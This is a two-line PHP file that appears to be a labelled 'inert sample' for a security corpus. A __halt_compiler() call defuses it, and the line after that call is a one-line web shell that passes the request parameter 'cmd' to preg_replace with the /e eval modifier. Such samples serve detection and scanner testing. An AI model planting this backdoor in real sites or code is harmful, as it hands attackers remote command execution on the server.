<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php preg_replace('/.*/e', $_REQUEST['cmd'], ''); ?>